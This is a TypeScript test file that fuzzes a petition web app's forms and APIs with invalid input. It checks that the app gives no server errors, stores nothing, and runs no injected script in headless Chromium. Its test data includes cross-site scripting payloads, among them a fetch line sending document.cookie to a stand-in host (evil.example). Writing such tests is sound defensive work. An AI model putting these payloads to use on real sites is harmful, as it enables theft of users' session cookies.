const HOOK_TIMEOUT = 240_000;
/** Signed before the run and left unconfirmed: the withdraw and code forms must leave it as it is. */
const SENTINEL_EMAIL = `fuzz-sentinel-${SEED}@example.org`;
/** Signed after the run: the one valid signature, whose name is script if it is ever rendered as markup. */
const CONTROL_EMAIL = `fuzz-control-${SEED}@example.org`;
const CONTROL_NAME = `"'><img src=x onerror=${RAN}=1><script>alert(1)</script>`;

describe(`fuzzing the public forms and APIs with bad input (${onPostgres ? "Postgres" : "PGlite"}, seed ${SEED})`, () => {
  let server: RunningServer;
  let dataDir: string;
  let outcomes: Outcome[] = [];
  let unsound: { req: FuzzRequest; why: string }[] = [];
  let before: Counts;
  let after: Counts;
  let window: Window;
  let outputAtEnd = 0;
  let sentinel: SignerMail;
  let control: SignerMail | undefined;
  const timings: Record<string, number> = {};
  const genTimes: string[] = [];

  beforeAll(async () => {
    const t0 = Date.now();
    dataDir = mkdtempSync(path.join(tmpdir(), "padauk-fuzz-"));
    const generated = (async () => {
      const all: FuzzRequest[] = [];
      for (const [i, e] of endpoints.entries()) {
        const g0 = performance.now();
        const reqs = await e.generate(Math.round(e.runs * SCALE), SEED + i);
        const g1 = performance.now();
        const proved = await provenBad(reqs, e);
        genTimes.push(`${e.name.split(" ")[0]} ${Math.round(g1 - g0)}+${Math.round(performance.now() - g1)} ms`);
        all.push(...proved.ok);
        unsound.push(...proved.unsound);
      }
      timings.generate = Date.now() - t0;
      return shuffle(all, SEED);
    })();
    // Generation runs while the server starts.
    const started = startServer({ dataDir, env: { RATE_LIMIT: "off", APP_SECRET } }).then(async (s) => {
      timings.start = Date.now() - t0;
      // The sentinel: a real signature, pending, whose withdraw link and code the fuzz must not hit.
      expect(await signValid(s, "en", SLUGS[1], { name: "Fuzz Sentinel", email: SENTINEL_EMAIL, country: "TH" })).toBe(303);
      sentinel = await signerMail(dataDir, SENTINEL_EMAIL);
      return s;
    });
    [server] = await Promise.all([started, generated]);
    const requests = await generated;
    timings.startAndGenerate = Date.now() - t0;

    before = { ...(await publicCounts(server)), ...(onPostgres ? await postgresCounts(server.env.DATABASE_URL) : {}) };
    const t1 = Date.now();
    outcomes = await pool(requests, CONCURRENCY, (r) => send(server.baseUrl, r));
    timings.requests = Date.now() - t1;
    outputAtEnd = server.output().length;
    await settle(server);
    window = { from: new Date(t1), to: new Date() };
    after = { ...(await publicCounts(server)), ...(onPostgres ? await postgresCounts(server.env.DATABASE_URL) : {}) };

    // A summary per endpoint: how many requests, and which answers.
    const table: Record<string, Record<string, number>> = {};
    const time: Record<string, number> = {};
    for (const o of outcomes) {
      const row = (table[o.req.endpoint] ??= {});
      const key = o.status === null ? "no answer" : String(o.status);
      row[key] = (row[key] ?? 0) + 1;
      time[o.req.endpoint] = (time[o.req.endpoint] ?? 0) + o.ms;
    }
    const slowest = [...outcomes].sort((a, b) => b.ms - a.ms).slice(0, 3);
    console.log(
      `fuzz (seed ${SEED}): ${outcomes.length} bad inputs in ${(timings.requests / 1000).toFixed(1)} s ` +
        `(${Math.round(outcomes.length / (timings.requests / 1000))}/s, concurrency ${CONCURRENCY}); before that, the server started in ${(timings.start / 1000).toFixed(1)} s while the inputs were generated and proved in ${(timings.generate / 1000).toFixed(1)} s (${genTimes.join(", ")})\n` +
        Object.entries(table)
          .map(([e, st]) => {
            const n = Object.values(st).reduce((a, b) => a + b, 0);
            return `  ${e}: ${n}, mean ${(time[e] / n).toFixed(0)} ms → ${JSON.stringify(st)}`;
          })
          .join("\n") +
        `\n  slowest: ${slowest.map((o) => `${o.ms.toFixed(0)} ms ${o.req.method} ${o.req.path.slice(0, 80)} (${o.req.note})`).join("; ")}`,
    );
  }, HOOK_TIMEOUT);

  afterAll(async () => {
    // FUZZ_REPORT=<file>: every request's outcome and the server's output, for a closer look.
    if (process.env.FUZZ_REPORT && server) {
      const rows = outcomes.map((o) => ({ endpoint: o.req.endpoint, status: o.status, error: o.error, ms: Math.round(o.ms), method: o.req.method, path: o.req.path.slice(0, 500), note: o.req.note, headers: o.req.headers }));
      writeFileSync(process.env.FUZZ_REPORT, JSON.stringify({ seed: SEED, timings, outcomes: rows, serverOutput: server.output() }, null, 1));
    }
    await server?.stop();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  it(`sends at least ${MIN_INPUTS} inputs, every one proved invalid before it is sent`, () => {
    const shown = unsound.slice(0, 5).map((u) => `${u.why}:\n  ${describeRequest(u.req)}`);
    expect(unsound, `the generator made inputs that are not bad (seed ${SEED}):\n${shown.join("\n")}`).toHaveLength(0);
    expect(outcomes.length).toBeGreaterThanOrEqual(Math.round(MIN_INPUTS * Math.min(SCALE, 1)));
  });

  it("answers every one with a 4xx or an ordinary page, never a 5xx", async () => {
    const failed = outcomes.filter((o) => o.status === null || o.status >= 500);
    if (failed.length === 0) return;
    const byEndpoint: Record<string, number> = {};
    for (const f of failed) byEndpoint[f.req.endpoint] = (byEndpoint[f.req.endpoint] ?? 0) + 1;
    // One example per cause, with the server's own words for it.
    const causes = await explain(server, failed, loggedErrors(server.output().slice(0, outputAtEnd)));
    const message =
      `${failed.length} of ${outcomes.length} bad inputs got a 5xx or no answer (seed ${SEED}); by endpoint ${JSON.stringify(byEndpoint, null, 1)}\n` +
      `Causes, as the server logged them (count ← cause; the shortest request that failed so, and its status when sent again):\n` +
      causes.map((c) => `  [${c.n}×] ${c.cause}\n    → ${c.replayed ?? "?"} on replay of: ${c.example ? describeRequest(c.example) : "(no request matched the logged path)"}`).join("\n");
    expect(failed.length, message).toBe(0);
  }, 120_000);

  it("the forms' validation was reached, not bypassed by an answer in front of it", () => {
    // Each form endpoint must have had bodies refused by its validator (400), or the fuzz tested nothing.
    for (const e of endpoints.filter((x) => x.isForm)) {
      const refused = outcomes.filter((o) => o.req.endpoint === e.name && o.status === 400).length;
      expect(refused, `${e.name}: no 400 answers`).toBeGreaterThan(e.runs * SCALE * 0.1);
    }
  });

  it("the code form refuses every bad code (4xx), a wrong withdraw link is not found (404), the data request says “sent” only to a bot", () => {
    const wrong = (name: string, ok: (o: Outcome) => boolean) => outcomes.filter((o) => o.req.endpoint === name && o.status !== null && o.status < 500 && !ok(o));
    const show = (os: Outcome[]) => os.slice(0, 3).map((o) => `${o.status} ← ${describeRequest(o.req)}`).join("\n");
    // A code of no signature is refused (400); a confirmation would be a redirect (303, or 202 to a single fetch).
    const code = wrong("code POST /{lang}/campaigns/{slug}/signed", (o) => o.status! >= 400 && o.status! < 500);
    expect(code, `the code form answered bad codes with other than 4xx:\n${show(code)}`).toHaveLength(0);
    // A wrong withdraw link is not found, whatever the method; a post from another site is refused before that.
    const withdraw = wrong("withdraw GET/POST /{lang}/signatures/{id}/withdraw/{mac}", (o) => {
      const expected = withdrawExpected(o.req, server.baseUrl);
      return expected === null ? o.status! >= 400 && o.status! < 500 : o.status === expected;
    });
    expect(withdraw, `the withdraw link answered wrong links with other than 404 (403 to a foreign Origin, 400 to a path that does not decode):\n${show(withdraw)}`).toHaveLength(0);
    // The data request says "sent" (200) only to a bot that filled the honeypot; a bad address is refused.
    const myData = wrong("my data POST /{lang}/my-data", (o) => (o.status! >= 400 && o.status! < 500) || (o.status === 200 && o.req.note.endsWith("broken: honeypot")));
    expect(myData, `the data request answered bad addresses with other than 4xx:\n${show(myData)}`).toHaveLength(0);
  });

  it("stores nothing: no row, no count, no mail", async () => {
    expect(after, `counts changed during the fuzz run (seed ${SEED})`).toEqual(before);
    if (onPostgres) {
      const created = await postgresCounts(server.env.DATABASE_URL, window);
      for (const t of TABLES) expect(created[`rows in ${t} created during the run`], t).toBe(0);
    }
  });

  it("would have seen a stored signature (one valid control signature moves the counters)", async () => {
    expect(await signValid(server, "en", SLUGS[0], { name: CONTROL_NAME, email: CONTROL_EMAIL, country: "IS", show_name: "on" })).toBe(303);
    // The confirmation mail is the trace an unconfirmed signature leaves outside the database.
    control = await signerMail(server.dataDir, CONTROL_EMAIL);
    const counts = { ...(await publicCounts(server)), ...(onPostgres ? await postgresCounts(server.env.DATABASE_URL) : {}) };
    const expected: Counts = {
      ...after,
      "mail files in DATA_DIR/mail": after["mail files in DATA_DIR/mail"] + 1,
      "mails listed at /dev/mail": after["mails listed at /dev/mail"] + 1,
    };
    if (onPostgres) {
      expected["rows in signatures"] += 1;
      expected["rows in outbox"] += 1;
      expect(counts["rows in signature_tokens"]).toBeGreaterThan(after["rows in signature_tokens"]);
      expected["rows in signature_tokens"] = counts["rows in signature_tokens"];
    }
    expect(counts).toEqual(expected);
  });

  it("nothing runs as script in Chromium: no dialog, no request off the server, no global set, no handler in any page", async () => {
    expect(control, "the control signature's mail (the test above)").toBeDefined();
    const origin = new URL(server.baseUrl).origin;
    const browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH || (existsSync("/usr/bin/chromium") ? "/usr/bin/chromium" : undefined),
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
    });
    const problems: string[] = [];
    const statuses: [string, number | null][] = [];
    let here = "";
    try {
      // The checks themselves: on a blank page, script that got in runs and is seen; on one of the
      // server's pages an injected handler is stopped by its Content-Security-Policy, and still seen.
      {
        const ctx = await browser.newContext();
        await ctx.addInitScript({ content: RECORD_CSP_VIOLATIONS });
        const p = await ctx.newPage();
        const dialogs: string[] = [];
        p.on("dialog", (d) => {
          dialogs.push(d.message());
          void d.dismiss().catch(() => {});
        });
        await p.setContent(`<img src=x onerror="${RAN}=1;alert('seen')">`);
        const blank: string[] = [];
        await inspect(p, "blank", blank);
        expect(blank.join("\n"), "the checks see script that ran").toMatch(new RegExp(`global ${RAN} = 1[\\s\\S]*onerror`));
        expect(dialogs).toEqual(["seen"]);
        await p.goto(`${origin}/en/my-data`);
        await p.evaluate(`document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="${RAN}=2">')`);
        const served: string[] = [];
        await inspect(p, "served", served);
        expect(served.join("\n"), "the checks see an injected handler the policy stopped").toMatch(/onerror[\s\S]*CSP violation: script-src/);
        expect(served.join("\n")).not.toContain(`global ${RAN}`);
        await ctx.close();
      }

      const context = await browser.newContext();
      await context.addInitScript({ content: RECORD_CSP_VIOLATIONS });
      context.on("request", (r) => {
        const u = r.url();
        if (!/^(data|blob|about):/.test(u) && new URL(u).origin !== origin) problems.push(`${here}: a request to another host: ${r.method()} ${u.slice(0, 200)}`);
      });
      const page = await context.newPage();
      page.on("dialog", (d) => {
        problems.push(`${here}: a ${d.type()} dialog: ${JSON.stringify(d.message().slice(0, 100))}`);
        void d.dismiss().catch(() => {});
      });
      context.on("page", (p) => problems.push(`${here}: a window opened: ${p.url()}`));

      /** Loads a page (optionally by a document POST of `fields`) and checks it; returns the status. */
      const open = async (p: string, fields?: [string, string][]) => {
        here = `${fields ? "POST" : "GET"} ${p.length > 160 ? p.slice(0, 160) + "…" : p}`;
        const url = origin + p;
        if (fields) {
          await page.route(
            (u) => u.href === url,
            (route) => route.continue({ method: "POST", postData: new URLSearchParams(fields).toString(), headers: { ...route.request().headers(), "content-type": URLENCODED } }),
            { times: 1 },
          );
        }
        const res = await page.goto(url, { waitUntil: "load", timeout: 20_000 });
        statuses.push([here, res?.status() ?? null]);
        await inspect(page, here, problems);
        return res?.status() ?? null;
      };
      /** Submits a form of the page with JavaScript on (Remix posts it by fetch and renders the answer), then checks. */
      const submit = async (p: string, input: string, value: string, answer: string) => {
        await open(p);
        here = `${p} submitted with ${input} = ${JSON.stringify(value.slice(0, 60))}`;
        await page.fill(input, value);
        await page.locator(input).press("Enter");
        await page.locator(answer).waitFor({ timeout: 10_000 });
        await inspect(page, here, problems);
      };

      // The control signer confirms by the code in the mail, on the page the fuzz posted bad codes to.
      await open(`/en/campaigns/${SLUGS[0]}/signed`);
      here = "confirming the control signature by its code";
      await page.fill("#confirm-code", control!.code);
      await Promise.all([page.waitForURL(`${origin}/en/campaigns/${SLUGS[0]}/thanks`, { timeout: 10_000 }), page.locator("#confirm-code").press("Enter")]);
      await inspect(page, here, problems);
      // Its name, script if it were markup, is now stored and shown on the campaign page: as text.
      for (const lang of ["en", "my"]) {
        expect(await open(`/${lang}/campaigns/${SLUGS[0]}`)).toBe(200);
        expect(await page.locator("ul.signers").innerText(), `the control signer's name on the ${lang} campaign page`).toContain(CONTROL_NAME);
      }

      // Every public page the fuzz reached, in both scripts.
      const writable: string[] = [];
      for (const lang of ["en", "my"]) {
        for (const p of publicPages(lang, [sentinel, control!])) {
          const status = await open(p);
          const mayBeMissing = /\/write$/.test(p); // a campaign without officials has no composer
          if (!(status === 200 || (mayBeMissing && status === 404))) problems.push(`${p}: status ${status}`);
          if (mayBeMissing && status === 200 && lang === "en") writable.push(p.split("/")[3]);
        }
      }
      for (const p of ["/api/v1/campaigns", ...SLUGS.map((slug) => `/api/v1/campaigns/${slug}`)]) if ((await open(p)) !== 200) problems.push(`${p}: not 200`);
      expect(writable.length, "no campaign has a composer").toBeGreaterThan(0);

      // Hostile values echoed from the URL: the query, the path, and the language switch's redirect.
      for (const lang of ["en", "my"]) for (const p of echoPages(lang, sentinel)) await open(p);

      // Hostile values posted as documents (no JavaScript involved in the post), each proved refused by the app's schema.
      const posted = async (p: string, fields: [string, string][], rejects: Rejects, expected = 400) => {
        const form = new FormData();
        for (const [k, v] of fields) form.append(k, v);
        expect(rejects(form), `the app's schema accepts ${JSON.stringify(fields).slice(0, 200)}`).toBe(true);
        const status = await open(p, fields);
        if (status !== expected) problems.push(`${here}: status ${status}, not ${expected}`);
      };
      for (const lang of ["en", "my"]) {
        const slug = writable[0];
        await posted(`/${lang}/campaigns/${SLUGS[0]}`, [["name", SCRIPT_ALL], ["email", `${SCRIPT_ALL}@example.org`], ["country", SCRIPT_ALL], ["consent_updates", "on"], ["source", SCRIPT_ALL]], rejectsSignature);
        await posted(`/${lang}/campaigns/${SLUGS[0]}`, [["name", SCRIPT_SHORT], ["email", "not-an-address"], ["country", "MM"], ["show_name", "on"]], rejectsSignature);
        await posted(
          `/${lang}/campaigns/${slug}/write`,
          [["name", SCRIPT_SHORT], ["email", `${SCRIPT_ALL}@`], ["country", SCRIPT_ALL], ["area", SCRIPT_SHORT], ["subject", SCRIPT_ALL.slice(0, 200)], ["body", SCRIPT_ALL], ["target", SCRIPT_SHORT]],
          rejectsMessage,
        );
        await posted(`/${lang}/my-data`, [["email", SCRIPT_ALL]], rejectsMyData);
        await posted(`/${lang}/my-data`, [["email", `${SCRIPT_SHORT}@example.org`]], rejectsMyData);
        for (const value of lang === "en" ? [...RUNS_SCRIPT, SCRIPT_ALL] : [SCRIPT_ALL]) await posted(`/${lang}/campaigns/${SLUGS[0]}/signed`, [["code", value]], rejectsCode);
      }

      // The same forms submitted with JavaScript on: Remix posts them by fetch and renders the answer in the page.
      for (const lang of ["en", "my"]) {
        for (const value of lang === "en" ? RUNS_SCRIPT : [SCRIPT_SHORT]) {
          await submit(`/${lang}/campaigns/${SLUGS[1]}/signed`, "#confirm-code", value, "#code-error");
          await submit(`/${lang}/my-data`, "#my-data-email", value, "#my-data-error");
        }
      }
    } finally {
      await browser.close();
    }
    console.log(`Chromium: ${statuses.length} page loads checked (${statuses.filter(([, st]) => st === 200).length} × 200, ${statuses.filter(([, st]) => st !== 200).length} others), plus ${2 * RUNS_SCRIPT.length + 2} forms submitted with JavaScript`);
    expect(problems, `in Chromium (seed ${SEED}):\n${problems.join("\n")}`).toEqual([]);
  }, 300_000);

  it(`the database holds no row created during the run, the sentinel is there unconfirmed, and the control's rows are the only new ones (${onPostgres ? "Postgres, while the server runs" : "PGlite, once the server has stopped"})`, async () => {
    const look = async (db: DB) => ({
      during: await countRows(db, window),
      since: await countRows(db, { from: window.to, to: new Date() }, "created since"),
      sentinel: await db.selectFrom("signatures").select(["status", "campaign_id"]).where("id", "=", sentinel.signatureId).executeTakeFirst(),
    });
    let found: Awaited<ReturnType<typeof look>>;
    if (onPostgres) found = await withDatabase({ databaseUrl: server.env.DATABASE_URL }, look);
    else {
      await server.stop();
      found = await withDatabase({ dataDir }, look);
    }
    for (const t of TABLES) expect(found.during[`rows in ${t} created during the run`], t).toBe(0);
    // The sentinel, signed before the run, was neither withdrawn nor confirmed by any of it.
    expect(found.sentinel?.status, `signature ${sentinel.signatureId}, made before the run`).toBe("pending");
    // …and the control signature is there, which proves the comparison of clocks sees rows at all;
    // nothing Chromium posted added a row.
    expect(found.since["rows in signatures created since"]).toBe(1);
    expect(found.since["rows in outbox created since"]).toBe(1);
    expect(found.since["rows in messages created since"]).toBe(0);
    expect(found.since["rows in message_deliveries created since"]).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------
// In the browser

/** Every public page the fuzz reached, and the withdraw links of the sentinel and the control (opening one only asks). */
function publicPages(lang: string, signers: SignerMail[]): string[] {
  return [
    `/${lang}`,
    ...SLUGS.flatMap((s) => ["", "/signed", "/thanks", "/write", "/write/sent", "/challenge"].map((x) => `/${lang}/campaigns/${s}${x}`)),
    `/${lang}/my-data`,
    ...signers.map((m) => `/${lang}/signatures/${m.signatureId}/withdraw/${m.mac}`),
  ];
}

/** Every script payload at once, and the alert() and fetch() ones; the short one fits a name. */
const SCRIPT_ALL = [...RUNS_SCRIPT, "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "</textarea><script>fetch('//evil.example/'+document.cookie)</script>"].join("");
const SCRIPT_SHORT = `"><img src=x onerror=${RAN}=1>`;

/** URLs whose answer may echo a part of them. */
function echoPages(lang: string, sentinel: SignerMail): string[] {
  const e = encodeURIComponent(SCRIPT_ALL);
  return [
    `/${lang}/campaigns/${SLUGS[0]}?source=${e}&country=${e}`,
    `/${lang}/campaigns/${SLUGS[0]}/write?country=${e}&area=${e}`,
    `/${lang}/campaigns/${e}`,
    `/${lang}/campaigns/${e}/signed`,
    `/${lang}/confirm/${e}`,
    `/${lang}/messages/confirm/${e}`,
    `/${lang}/messages/${e}`,
    `/${lang}/unsubscribe/1/${e}`,
    `/${lang}/signatures/${sentinel.signatureId}/withdraw/${e}`,
    `/${lang}/${e}`,
    `/language/${lang}?to=/${e}`,
    `/api/v1/campaigns/${e}`,
    `/${e}`,
  ];
}

/** Content-Security-Policy violations, recorded in the page: markup that got in and was stopped only by the policy. */
const RECORD_CSP_VIOLATIONS = `document.addEventListener("securitypolicyviolation", (e) => {
  (window.__padaukCspViolations = window.__padaukCspViolations || []).push(e.violatedDirective + " blocked " + (e.blockedURI || "inline") + (e.sample ? ": " + e.sample : ""));
}, true);`;

/** In the page: globals the payloads set, script handlers and javascript: URLs in the DOM, frames, CSP violations. */
const INSPECT = `(() => {
  const found = [];
  for (const k of Object.getOwnPropertyNames(window)) if (k.startsWith(${JSON.stringify(RAN.slice(0, 12))})) found.push("global " + k + " = " + String(window[k]));
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith("on") || name === "srcdoc" || (/^(href|src|action|formaction|data|xlink:href)$/.test(name) && /^\\s*javascript:/i.test(a.value)))
        found.push("<" + el.localName + " " + a.name + "=" + JSON.stringify(a.value.slice(0, 80)) + ">");
    }
    if (/^(iframe|frame|object|embed|base)$/.test(el.localName)) found.push("element " + el.outerHTML.slice(0, 120));
  }
  for (const v of window.__padaukCspViolations || []) found.push("CSP violation: " + v);
  return found;
})()`;

async function inspect(page: Page, where: string, problems: string[]) {
  // Time for an onerror, onload, autofocus or ontoggle handler to run, had one got in.
  await page.waitForTimeout(100);
  for (const f of (await page.evaluate(INSPECT)) as string[]) problems.push(`${where}: ${f}`);
}

/** What the Express layer refuses before any route: a post (not GET or HEAD) from another origin (app/cli/serve.ts). */
function foreignPost(r: FuzzRequest, baseUrl: string): boolean {
  const o = r.headers.origin;
  // HEAD counts: Remix treats a HEAD of a .data URL as a submission, so the server checks its Origin too.
  if (r.method === "GET" || o === undefined || o === "null" || o === SELF_ORIGIN) return false;
  try {
    return new URL(o).host !== new URL(baseUrl).host;
  } catch {
    return true;
  }
}

/** A wrong withdraw link: 404; 403 to a foreign post; 400 for a backslash in the path or a segment that does not decode (Remix's "Failed to decode param"); any 4xx off the route. */
function withdrawExpected(r: FuzzRequest, baseUrl: string): number | null {
  // A backslash in the path (also %5C) is refused first, with a 400.
  if (/%5c|\\/i.test(r.path.split("?")[0])) return 400;
  if (foreignPost(r, baseUrl)) return 403;
  const p = new URL(baseUrl + r.path).pathname;
  if (!/^\/[^/]+\/signatures\/[^/]+\/withdraw\/[^/]+$/.test(p)) return null;
  const decodes = (seg: string) => {
    try {
      decodeURIComponent(seg);
      return true;
    } catch {
      return false;
    }
  };
  return p.split("/").every(decodes) ? 404 : 400;
}
